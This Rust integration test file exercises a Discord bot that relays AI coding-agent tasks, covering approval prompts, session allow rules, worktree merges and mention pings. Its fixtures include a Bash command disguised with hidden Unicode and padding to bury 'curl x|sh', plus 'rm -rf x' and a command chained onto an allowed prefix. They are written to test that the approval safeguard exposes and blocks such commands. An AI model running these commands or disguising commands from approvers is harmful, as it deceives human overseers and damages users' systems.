        "echo \u{202E}txt.dab\u{200B} {} ; curl x|sh",
        "a".repeat(1500)
    );
    w.fake
        .push(Reply::tool_use("Bash", bash(&padded, "npm test")));
    w.fake.push(Reply::text("first done"));
    let (task, thread) = start_task(sim, &alice, task_in_app("run the tests")).await;
    let first = approval_message(sim, &thread, &task).await;
    let shown = &first.content;
    let command_at = shown
        .find(&format!("```\n{lying}\n```"))
        .unwrap_or_else(|| panic!("the command, in a code block: {shown}"));
    let described_at = shown
        .find("Claude's description")
        .unwrap_or_else(|| panic!("the description, labelled: {shown}"));
    assert!(command_at < described_at, "command first: {shown}");
    assert_eq!(shown.matches("npm test").count(), 1, "{shown}");
    assert!(first.attachments.is_empty(), "nothing was cut: {first:?}");
    click(sim, &alice, &thread, &first, "ao:");

    let second = approval_showing(sim, &thread, "<U+202E>").await;
    let shown = &second.content;
    assert!(
        shown.contains("echo <U+202E>txt.dab<U+200B> aaa"),
        "hidden characters written out: {shown}"
    );
    assert!(
        !shown.contains('\u{202E}') && !shown.contains("txt.dab\u{200B}"),
        "{shown}"
    );
    assert!(!shown.contains("curl x|sh"), "past the preview: {shown}");
    assert!(
        shown.contains("Cut to fit: this is not the whole input"),
        "{shown}"
    );
    let whole = serde_json::to_string_pretty(&bash(&padded, "npm test")).unwrap();
    assert_eq!(
        second
            .attachments
            .iter()
            .map(|a| (a.filename.ends_with(".json"), a.size))
            .collect::<Vec<_>>(),
        [(true, whole.len())],
        "the whole input attached: {second:?}"
    );
    deny(&thread, &second);
    assert_eq!(
        nth_summary(sim, &thread, 1).await,
        format!("✅ Done · {task}")
    );
    assert!(w.project.join("made.txt").exists());

    // 3. "Allow this command for session" on `touch one.txt`: the same command again runs without asking,
    //    posted and audited; `rm -rf x` still asks.
    w.fake
        .push(Reply::tool_use("Bash", bash("touch one.txt", "make one")));
    w.fake.push(Reply::tool_use(
        "Bash",
        bash("touch one.txt", "make one again"),
    ));
    w.fake
        .push(Reply::tool_use("Bash", bash("rm -rf x", "tidy up")));
    w.fake.push(Reply::text("second done"));
    let (task2, thread2) = start_task(sim, &alice, task_in_app("make one")).await;
    let one = approval_message(sim, &thread2, &task2).await;
    assert!(
        one.content
            .contains("Allow for session: the Bash command `touch one.txt` exactly."),
        "{}",
        one.content
    );
    click(sim, &alice, &thread2, &one, "as:");
    let auto = message_in(sim, &thread2, "the auto-allowed use", |m| {
        m.content.starts_with("🔓 Auto-allowed by session rule")
    })
    .await;
    assert!(auto.content.contains("`touch one.txt`"), "{}", auto.content);
    message_in(sim, &thread2, "the approval closed with its rule", |m| {
        m.id == one.id
            && m.content
                .contains("✅ Allowed for this session: this command by <@")
    })
    .await;
    let rm = approval_showing(sim, &thread2, "rm -rf x").await;
    deny(&thread2, &rm);
    nth_summary(sim, &thread2, 1).await;
    let autos = sim
        .messages(&thread2)
        .iter()
        .filter(|m| m.content.starts_with("🔓"))
        .count();
    assert_eq!(autos, 1, "{:#?}", sim.messages(&thread2));
    let audited = w
        .relay
        .core
        .audit(&ct_relay::audit::AuditFilter::default(), 1000, None)
        .await
        .unwrap();
    let auto_allowed: Vec<_> = audited
        .iter()
        .filter(|e| matches!(e.kind, ct_relay::audit::AuditKind::AutoAllowed { .. }))
        .collect();
    assert_eq!(auto_allowed.len(), 1, "{audited:#?}");
    let entry = auto_allowed[0];
    assert_eq!(entry.task.as_deref(), Some(task2.as_str()));
    assert_eq!(entry.owner, alice.id);
    assert!(
        matches!(&entry.kind, ct_relay::audit::AuditKind::AutoAllowed { tool, summary, rule, .. }
            if tool == "Bash" && summary == "touch one.txt" && rule.contains("touch one.txt")),
        "{entry:#?}"
    );

    // 4. A follow-up in that thread is a new task on the same process: the rule is gone, so the same
    //    command asks again. This time the approver types a prefix: one that does not cover the command is
    //    refused; `touch` covers `touch two.txt` but never a command chained onto it.
    w.fake
        .push(Reply::tool_use("Bash", bash("touch one.txt", "again")));
    w.fake
        .push(Reply::tool_use("Bash", bash("touch two.txt", "two")));
    w.fake.push(Reply::tool_use(
        "Bash",
        bash("touch three.txt && rm -rf x", "three"),
    ));
    w.fake.push(Reply::text("third done"));
    let warm = claude_processes(&w.project);
    sim.send_message(&sim.origin_in(&alice, &thread2), "once more")
        .unwrap();
    let again = sim
        .wait_until(T, |s| {
            s.messages(&thread2).into_iter().find(|m| {
                m.id != one.id
                    && m.content.contains("touch one.txt")
                    && m.custom_ids().iter().any(|c| c.starts_with("ap:"))
                    && !m.components.to_string().contains("\"disabled\":true")
            })
        })
        .await
        .unwrap_or_else(|e| {
            panic!(
                "the follow-up asks again: {e:#}: {:#?}",
                sim.messages(&thread2)
            )
        });
    assert_eq!(
        claude_processes(&w.project),
        warm,
        "the follow-up runs on the task's warm process, which had the rule"
    );
    let ix = click(sim, &alice, &thread2, &again, "ap:");
    let cb = sim
        .wait_callback(&ix, Duration::from_secs(3))
        .await
        .unwrap();
    assert_eq!(cb.body_type(), Some(9), "a modal: {}", cb.body);
    let modal_id = cb.body["data"]["custom_id"].as_str().unwrap().to_string();
    assert_eq!(
        cb.body["data"]["components"][0]["components"][0]["value"], "touch one.txt",
        "prefilled with the command: {}",
        cb.body
    );
    let origin = sim.origin_in(&alice, &thread2);
    let ix = sim
        .send_modal_submit(&origin, &modal_id, &[("prefix", "cargo")])
        .unwrap();
    let said = private(sim, &ix).await;
    assert!(said.starts_with("⚠️ Not allowed"), "{said}");
    let ix = sim
        .send_modal_submit(&origin, &modal_id, &[("prefix", "touch")])
        .unwrap();
    let said = private(sim, &ix).await;
    assert!(
        said.contains("simple Bash commands starting with `touch`"),
        "{said}"
    );
    message_in(sim, &thread2, "the use the prefix allowed", |m| {
        m.content.starts_with("🔓") && m.content.contains("`touch two.txt`")
    })
    .await;
    message_in(sim, &thread2, "the approval closed with the prefix", |m| {
        m.id == again.id
            && m.content
                .contains("✅ Allowed for this session: simple Bash commands starting with `touch`")
    })
    .await;
    let chained = approval_showing(sim, &thread2, "touch three.txt && rm -rf x").await;
    deny(&thread2, &chained);
    nth_summary(sim, &thread2, 2).await;
    assert!(w.project.join("two.txt").exists());
    assert!(!w.project.join("three.txt").exists());

    // Nothing the bot sent was refused by the simulator (message sizes, attachments, modals).
    let refused: Vec<_> = sim
        .calls()
        .into_iter()
        .filter(|c| c.status >= 400)
        .collect();
    assert!(refused.is_empty(), "{refused:#?}");
    agent.stop().await.unwrap();
    w.relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_task_in_a_worktree_shows_its_branch_and_diff_and_only_its_requester_merges_it() {
    use crate::worktree::git;
    let w = world().await;
    let sim = &w.sim;
    let (alice, bob) = (sim.user("alice"), sim.user("bob"));
    crate::support::pair(&w.relay, w.agent_dir.path(), &alice.id).await;
    let mut agent = TestAgent::start_with(w.run_options());
    agent.connected(T).await;
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("project").sub(
                "add",
                [
                    Opt::str("name", "app"),
                    Opt::str("path", &w.project.display().to_string()),
                ],
            ),
        )
        .unwrap();
    private(sim, &ix).await;
    git(&w.project, &["init", "-q", "-b", "main"]);
    git(&w.project, &["config", "user.name", "T"]);
    git(&w.project, &["config", "user.email", "t@example.com"]);
    std::fs::write(w.project.join("README"), "hi\n").unwrap();
    git(&w.project, &["add", "README"]);
    git(&w.project, &["commit", "-q", "-m", "one"]);

    // The model writes into whichever worktree the task got (the only folder there: the agent's index of its
    // worktrees, index.json, lies beside it, and read_dir returns the two in no particular order).
    let root = std::fs::canonicalize(w.agent_dir.path())
        .unwrap()
        .join("worktrees");
    w.fake.push(Reply::with(move |_| {
        let tree = std::fs::read_dir(&root)
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| p.is_dir())
            .expect("the task's worktree");
        Reply::tool_use("Write", write(&tree.join("hello.txt"), "hello\n"))
    }));
    w.fake.push(Reply::text("wrote it"));
    let (task, thread) = start_task(
        sim,
        &alice,
        SlashCommand::new("task")
            .opt(Opt::str("prompt", "write hello.txt"))
            .opt(Opt::str("project", "app"))
            .opt(Opt::str("mode", "acceptEdits"))
            .opt(Opt::str("isolation", "worktree")),
    )
    .await;
    let summary = message_in(sim, &thread, "the summary with its branch", |m| {
        m.embeds.to_string().contains("Branch")
    })
    .await;
    let embed = summary.embeds.to_string();
    assert!(embed.contains(&format!("ct/{task}")), "{embed}");
    assert!(embed.contains("1 file changed, +1 −0"), "{embed}");
    assert!(
        summary
            .attachments
            .iter()
            .any(|a| a.filename == format!("{task}.patch") && a.size > 0),
        "{:?}",
        summary.attachments
    );
    assert!(!w.project.join("hello.txt").exists());

    // Someone else's click changes nothing.
    let ix = click(sim, &bob, &thread, &summary, "wm:");
    let said = private(sim, &ix).await;
    assert!(said.contains("no task"), "{said}");
    assert!(!w.project.join("hello.txt").exists());

    // The requester's merges it into the project's branch.
    let ix = click(sim, &alice, &thread, &summary, "wm:");
    let said = answer(sim, &ix).await.content;
    assert!(
        said.contains("merged") && said.contains("fast-forward"),
        "{said}"
    );
    assert_eq!(
        std::fs::read_to_string(w.project.join("hello.txt")).unwrap(),
        "hello\n"
    );
    agent.stop().await.unwrap();
}

/// Deletes a channel or thread as someone with the right to would.
pub(crate) async fn delete_channel(sim: &DiscordSim, id: &str) {
    let status = reqwest::Client::new()
        .delete(format!("{}/api/v10/channels/{id}", sim.api_base()))
        .header("Authorization", format!("Bot {}", sim.token()))
        .send()
        .await
        .unwrap()
        .status();
    assert!(status.is_success(), "{status}");
    assert!(sim.channel(id).is_none());
}

/// The body the bot POSTed to create the first message in `thread` that `pred` accepts.
fn posted(sim: &DiscordSim, thread: &str, pred: impl Fn(&Value) -> bool) -> Value {
    sim.calls_to("POST", &format!("/channels/{thread}/messages"))
        .into_iter()
        .map(|c| c.body)
        .find(|b| pred(b))
        .unwrap_or_else(|| panic!("no such message posted in {thread}"))
}

/// Who a posted message may ping: (`parse` kinds, user ids).
fn may_ping(body: &Value) -> (Vec<String>, Vec<String>) {
    let list = |k: &str| -> Vec<String> {
        body["allowed_mentions"][k]
            .as_array()
            .into_iter()
            .flatten()
            .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned))
            .collect()
    };
    assert!(
        body.get("allowed_mentions").is_some(),
        "every post says who it may ping: {body}"
    );
    (list("parse"), list("users"))
}

fn is_summary(body: &Value) -> bool {
    body["embeds"].as_array().is_some_and(|e| !e.is_empty())
}

async fn set_mentions(sim: &DiscordSim, user: &SimUser, set: Option<&str>) -> String {
    let mut cmd = SlashCommand::new("mentions");
    if let Some(set) = set {
        cmd = cmd.opt(Opt::str("set", set));
    }
    let ix = sim.send_slash(&sim.origin(user), &cmd).unwrap();
    private(sim, &ix).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_status_is_pinned_and_live_and_mentions_reach_only_whom_they_concern() {
    let w = world().await;
    let sim = &w.sim;
    let alice = sim.user("alice");
    crate::support::pair(&w.relay, w.agent_dir.path(), &alice.id).await;
    let mut agent = TestAgent::start_with(w.run_options());
    agent.connected(T).await;
    add_project(sim, &alice, &w.project).await;

    // 1. A task with an approval: the progress message is pinned, shows the usage and the context (the window
    //    comes from the CLI's own `get_context_usage`, asked during the first model call), and the approver
    //    and then the requester are pinged, each alone.
    let target = w.project.join("a.txt");
    w.fake.push(Reply::tool_use("Write", write(&target, "a\n")));
    w.fake.push(Reply::text("wrote a.txt"));
    let (task, thread) = start_task(sim, &alice, task_in_app("write a.txt")).await;
    let approval = approval_message(sim, &thread, &task).await;
    let asked = posted(sim, &thread, |b| {
        b["content"].as_str().is_some_and(|c| c.starts_with("✋"))
    });
    assert_eq!(may_ping(&asked), (vec![], vec![alice.id.clone()]));
    let progress = sim.messages(&thread).remove(0);
    assert!(progress.pinned, "the status is pinned: {progress:?}");
    assert!(progress.custom_ids().iter().any(|c| c.starts_with("st:")));
    // While it waits for the approval, the status says so and shows the context already used.
    message_in(sim, &thread, "live context", |m| {
        m.id == progress.id
            && m.content.contains("📊")
            && m.content.contains("context")
            && m.content.contains("Waiting for approval")
    })
    .await;
    click(sim, &alice, &thread, &approval, "ao:");
    assert_eq!(
        nth_summary(sim, &thread, 1).await,
        format!("✅ Done · {task}")
    );
    let fin = sim.message(&progress.id).unwrap();
    assert!(
        fin.content.contains(" in · ")
            && fin.content.contains(" of ")
            && fin.content.contains("%)"),
        "tokens, cost and the share of the window: {}",
        fin.content
    );
    let summary = posted(sim, &thread, is_summary);
    assert_eq!(
        summary["content"].as_str().unwrap_or_default(),
        format!("<@{}> `{task}` is done.", alice.id)
    );
    assert_eq!(may_ping(&summary), (vec![], vec![alice.id.clone()]));

    // `/cc status` in the thread shows the same lines as the pinned message.
    let ix = sim
        .send_slash(
            &sim.origin_in(&alice, &thread),
            &SlashCommand::new("cc").sub("status", []),
        )
        .unwrap();
    let said = private(sim, &ix).await;
    let usage = fin.content.lines().find(|l| l.starts_with("📊")).unwrap();
    assert!(
        said.contains(usage) && said.contains("session `"),
        "{said}\nvs {usage}"
    );

    // 2. Mentions off: the thread still says everything, and pings nobody. Task output that spells a
    //    mention pings nobody either.
    assert!(set_mentions(sim, &alice, Some("off"))
        .await
        .contains("**off**"));
    assert!(set_mentions(sim, &alice, None).await.contains("**off**"));
    let second = w.project.join("b.txt");
    w.fake.push(Reply::tool_use("Write", write(&second, "b\n")));
    w.fake
        .push(Reply::text(format!("@everyone <@{}> done", alice.id)));
    let (task2, thread2) = start_task(sim, &alice, task_in_app("write b.txt")).await;
    let approval = approval_message(sim, &thread2, &task2).await;
    let asked = posted(sim, &thread2, |b| {
        b["content"].as_str().is_some_and(|c| c.starts_with("✋"))
    });
    assert_eq!(may_ping(&asked), (vec![], vec![]));
    click(sim, &alice, &thread2, &approval, "ao:");
    nth_summary(sim, &thread2, 1).await;
    let said = posted(sim, &thread2, |b| {
        b["content"]
            .as_str()
            .is_some_and(|c| c.contains("@everyone"))
    });
    assert_eq!(may_ping(&said), (vec![], vec![]));
    let summary = posted(sim, &thread2, is_summary);
    assert_eq!(summary["content"], Value::Null, "{summary}");
    assert_eq!(may_ping(&summary), (vec![], vec![]));

    // 3. Mentions on again; a requester who stops their own task is not pinged about it.
    assert!(set_mentions(sim, &alice, Some("on"))
        .await
        .contains("**on**"));
    w.fake.push(Reply::tool_use(
        "Write",
        write(&w.project.join("c.txt"), "c\n"),
    ));
    let (task3, thread3) = start_task(sim, &alice, task_in_app("write c.txt")).await;
    approval_message(sim, &thread3, &task3).await;
    let progress = sim.messages(&thread3).remove(0);
    let ix = click(sim, &alice, &thread3, &progress, "st:");
    assert!(private(sim, &ix).await.contains("Stopping"));
    assert_eq!(
        nth_summary(sim, &thread3, 1).await,
        format!("⏹️ Cancelled · {task3}")
    );
    let summary = posted(sim, &thread3, is_summary);
    assert_eq!(summary["content"], Value::Null, "{summary}");
    assert_eq!(may_ping(&summary), (vec![], vec![]));

    // 4. The thread is deleted while its task waits for an approval: the task goes on (answered with
    //    /approve from the channel), ends, and the bot stops calling on the thread after the first refusal
    //    (Discord bans bots that keep making invalid requests).
    let fourth = w.project.join("d.txt");
    w.fake.push(Reply::tool_use("Write", write(&fourth, "d\n")));
    w.fake.push(Reply::text("wrote d.txt"));
    let (task4, thread4) = start_task(sim, &alice, task_in_app("write d.txt")).await;
    approval_message(sim, &thread4, &task4).await;
    delete_channel(sim, &thread4).await;
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("approve")
                .opt(Opt::str("option", "once"))
                .opt(Opt::str("task_id", &task4)),
        )
        .unwrap();
    private(sim, &ix).await;
    // The task ends done without its thread.
    eventually_async(T, async || {
        let (rec, _, _) = w.relay.core.follow(&task4).await.unwrap();
        rec.state == ct_relay::store::TaskState::Done
    })
    .await;
    assert_eq!(std::fs::read_to_string(&fourth).unwrap(), "d\n");
    // Its output is still there for /status (the history tests read it whole).
    let ix = sim
        .send_slash(
            &sim.origin(&alice),
            &SlashCommand::new("status").opt(Opt::str("task_id", &task4)),
        )
        .unwrap();
    assert!(answer(sim, &ix).await.embeds[0]["title"]
        .as_str()
        .is_some_and(|t| t.contains("Done")));
    // The follower is done once it forgets the thread's mark (after its summary, posted or not).
    eventually_async(T, async || {
        let marks: Vec<(String, Value)> = w.relay.core.store().thread_marks().unwrap();
        !marks.iter().any(|(t, _)| *t == task4)
    })
    .await;
    let refused: Vec<_> = sim
        .calls()
        .into_iter()
        .filter(|c| c.path.starts_with(&format!("/channels/{thread4}")) && c.method != "DELETE")
        .filter(|c| c.status == 404)
        .map(|c| format!("{} {}", c.method, c.path))
        .collect();
    assert!(
        (1..=2).contains(&refused.len()),
        "one refusal teaches the follower the thread is gone: {refused:#?}"
    );
    agent.stop().await.unwrap();
}
